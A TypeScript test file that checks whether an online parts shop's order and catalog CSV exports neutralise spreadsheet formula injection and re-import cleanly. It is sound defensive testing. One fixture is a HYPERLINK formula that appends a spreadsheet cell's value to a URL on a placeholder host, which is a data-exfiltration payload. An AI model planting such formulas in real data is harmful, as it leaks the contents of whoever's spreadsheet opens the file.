// The back office's downloads cannot carry a formula: a real order from a buyer named like a spreadsheet
// formula, and products whose titles start with =, +, - and @, are exported with those cells quoted as text;
// numbers stay numbers; and the catalog export re-imports with nothing changed (no quote gained).
import path from 'node:path';
import os from 'node:os';
import fs from 'node:fs';
import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ordersCsv } from '#app/lib/orders-csv.server.ts';
import { exportCatalogCsv } from '#src/domain/catalog/import/export.server.ts';
import { createImport, markQueued, runImport } from '#src/domain/catalog/import/import.server.ts';
import { products } from '#src/domain/catalog/schema.ts';
import { customerSchema } from '#src/domain/checkout/rules.ts';
import { placeOrder } from '#src/domain/checkout/place-order.server.ts';
import { ordersForExport } from '#src/domain/orders/back-office.server.ts';
import { createSandboxProvider } from '#src/domain/payments/provider.ts';
import { createTestDatabase } from '../support/databases.ts';
import type { TestDatabase } from '../support/databases.ts';

const provider = createSandboxProvider({ pix: { key: 'pix@olimpopecas.com.br', merchantName: 'OLIMPO PECAS', merchantCity: 'SAO PAULO' } });
const FORMULA_NAME = '=HYPERLINK("http://x/?c="&F2,"Ver pedido")';
const TITLES = ['=1+1 Pastilha de freio', '+55 Filtro de óleo', '-Vela de ignição', '@SUM(A1) Correia'];

describe('spreadsheet exports', () => {
  let database: TestDatabase;
  beforeAll(async () => {
    database = await createTestDatabase('pglite', { seedProducts: 6 });
  }, 120_000);
  afterAll(() => database?.dispose());

  it('the orders export writes a formula-like buyer name as text', async () => {
    const customer = customerSchema.parse({ name: FORMULA_NAME, cpf: '529.982.247-25', phone: '(11) 98765-4321' });
    const placed = await placeOrder(
      { db: database.db, provider },
      {
        idempotencyKey: crypto.randomBytes(12).toString('hex'),
        email: 'formula@example.com',
        customer,
        lines: [{ productId: 1, quantity: 1 }],
        address: { cep: '01001000', street: 'Praça da Sé', number: '1', neighborhood: 'Sé', city: 'São Paulo', state: 'SP' },
        shipping: 'standard',
        payment: 'pix',
        installments: 1,
      },
      { userId: null },
    );
    if (!placed.ok) throw new Error(placed.message);
    const csv = ordersCsv(await ordersForExport(database.db, { q: '', status: '', payment: '', from: '', to: '', page: 1 }));
    const [header, row] = parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const col = (name: string) => row![header!.indexOf(name)]!;
    expect(col('cliente')).toBe(`'${FORMULA_NAME}`);
    expect(col('cpf')).toBe('529.982.247-25');
    expect(col('itens')).toBe('1');
    expect(col('total')).toMatch(/^\d+,\d{2}$/);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the catalog export quotes formula-like titles and re-imports them unchanged', async () => {
    for (const [i, title] of TITLES.entries())
      await database.db
        .update(products)
        .set({ title, description: `${title.slice(0, 1)}Descrição que começa como fórmula.` })
        .where(eq(products.id, i + 1));
    let text = '';
    for await (const chunk of exportCatalogCsv(database.db)) text += chunk;
    const [header, ...rows] = parse(text.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const titles = rows.map((r) => r[header!.indexOf('titulo')]!);
    for (const title of TITLES) expect(titles).toContain(`'${title}`);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const before = await database.db.select({ id: products.id, title: products.title, description: products.description }).from(products).orderBy(products.id);
    const dry = await createImport(database.db, { fileName: 'catalogo.csv', path: tempFile(new TextEncoder().encode(text)), userId: null });
    if (!dry.ok) throw new Error(dry.message);
    expect(dry.summary).toMatchObject({ unchanged: rows.length, updated: 0, created: 0, failed: 0 });
    expect(await markQueued(database.db, dry.summary.id)).toBe(true);
    expect(await runImport(database.db, dry.summary.id)).toMatchObject({ status: 'done', unchanged: rows.length, updated: 0 });
    const after = await database.db.select({ id: products.id, title: products.title, description: products.description }).from(products).orderBy(products.id);
    expect(after).toEqual(before);
    expect(after.slice(0, 4).map((p) => p.title)).toEqual(TITLES);
    expect(after.filter((p) => p.title.startsWith("'") || p.description.startsWith("'"))).toEqual([]);
  });
});

/** The import reads a file from disk, as the upload and the command line hand it over. */
function tempFile(bytes: Uint8Array): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'olimpo-import-')), 'catalogo.csv');
  fs.writeFileSync(file, bytes);
  return file;
}
